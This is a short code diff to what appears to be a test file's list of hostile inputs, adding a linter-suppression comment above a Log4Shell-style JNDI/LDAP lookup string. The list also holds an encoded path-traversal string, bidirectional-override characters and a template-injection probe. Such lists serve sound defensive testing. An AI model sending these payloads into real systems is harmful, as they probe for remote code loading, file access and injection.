@@ -36,6 +36,7 @@ const HOSTILE = [
   '%00%2e%2e%2f',
   '\u202e\u2066',
   '😀'.repeat(50),
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the probe (Log4Shell-style)
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   ' ',
